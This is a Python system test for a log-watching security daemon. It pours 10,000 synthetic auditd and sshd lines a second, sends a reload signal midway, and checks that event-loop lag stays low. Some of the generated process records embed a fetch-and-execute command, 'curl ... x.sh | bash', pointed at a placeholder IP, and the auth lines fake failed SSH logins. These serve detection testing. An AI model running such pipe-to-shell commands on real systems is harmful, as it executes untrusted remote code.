"""A burst never starves the event loop: the real process, two logs that grow by 10,000 lines a second, a reload amid."""

import asyncio
import re
import signal
import time
from pathlib import Path

import pytest

from daemon.cli.demo.scenario import Execution, execve
from tests.doubles.live_daemon import LiveDaemon, live_daemon
from tests.doubles.real_time import now, wait_until

pytestmark = [pytest.mark.system, pytest.mark.timeout(120)]
SECONDS = 5
BEATS = 50  # writes a second
RATE = 10_000
LATE = 0.1
"""Seconds of lag that one look in a hundred may find on a machine that does much else."""
BUCKET = re.compile(r'^tellwhy_loop_lag_seconds_bucket\{le="(\S+)"\} (\S+)$', re.MULTILINE)
GUESS = "{stamp} web-1 sshd[{pid}]: Failed password for invalid user admin from 203.0.113.{last} port {port} ssh2\n"


def records(at: float, first: int, count: int) -> bytes:
    """Process starts of a busy host, of which every twentieth looks like an attack."""
    found, lines, serial = [], 0, first
    while lines < count:
        command = (
            "curl -fsSL http://198.51.100.80/x.sh | bash" if serial % 20 == 0 else f"sort -u /srv/list-{serial}.txt"
        )
        run = Execution(("sh", "-c", command), "/usr/bin/dash", 2000 + serial % 30_000, 900, "deploy", 1000)
        found.append(execve(run, at, serial))
        lines += found[-1].count(b"\n")
        serial += 1
    return b"".join(found)


def guesses(at: float, first: int, count: int) -> str:
    """Wrong passwords from many addresses: every line is one that rules look at."""
    stamp = time.strftime("%b %e %H:%M:%S", time.localtime(at))
    return "".join(
        GUESS.format(stamp=stamp, pid=2000 + number % 30_000, last=number % 250, port=1024 + number % 60_000)
        for number in range(first, first + count)
    )


async def lags(daemon: LiveDaemon) -> dict[float, float]:
    """Looks at the lag since the start, by the upper end of what they found, each with all below."""
    status, text = await daemon.get("/metrics")
    assert status == 200, text
    return {float(end): float(count) for end, count in BUCKET.findall(text)}


async def pour(daemon: LiveDaemon, reload_at: int) -> None:
    """Write for SECONDS at RATE, a fifth of it guesses; say SIGHUP before one of the beats."""
    loop = asyncio.get_running_loop()
    each, at = RATE // BEATS, now()
    blocks = [
        (records(at + beat / BEATS, 100_000 + beat * 100, each * 4 // 5), guesses(at, beat * each // 5, each // 5))
        for beat in range(SECONDS * BEATS)
    ]
    began = loop.time()
    for beat, (audit, auth) in enumerate(blocks):
        if beat == reload_at:
            daemon.signal(signal.SIGHUP)
        daemon.append("audit", audit)
        daemon.append("auth", auth)
        await asyncio.sleep(max(0.0, began + (beat + 1) / BEATS - loop.time()))


async def test_the_loop_is_hardly_ever_late_while_lines_pour_in(tmp_path: Path) -> None:
    async with live_daemon(tmp_path, webhook_port=9, sources={"audit": "auditd", "auth": "syslog"}) as daemon:
        daemon.config["webhooks"] = []
        await daemon.start()
        before = await lags(daemon)

        await pour(daemon, SECONDS * BEATS // 2)

        after = await lags(daemon)
        looks = {end: after[end] - before.get(end, 0.0) for end in after}
        total = looks[float("inf")]
        assert total > SECONDS * 30, "it looks often while lines come in"
        assert total - looks[LATE] <= total / 100, f"late by more than {LATE} s: {looks}"
        await wait_until(lambda: bool(daemon.said("reloaded")), 30, daemon.last_words)

        async def reading() -> bool:
            return await daemon.gauge("tellwhy_lines_total") > SECONDS * RATE / 2

        await wait_until(reading, 30, daemon.last_words)
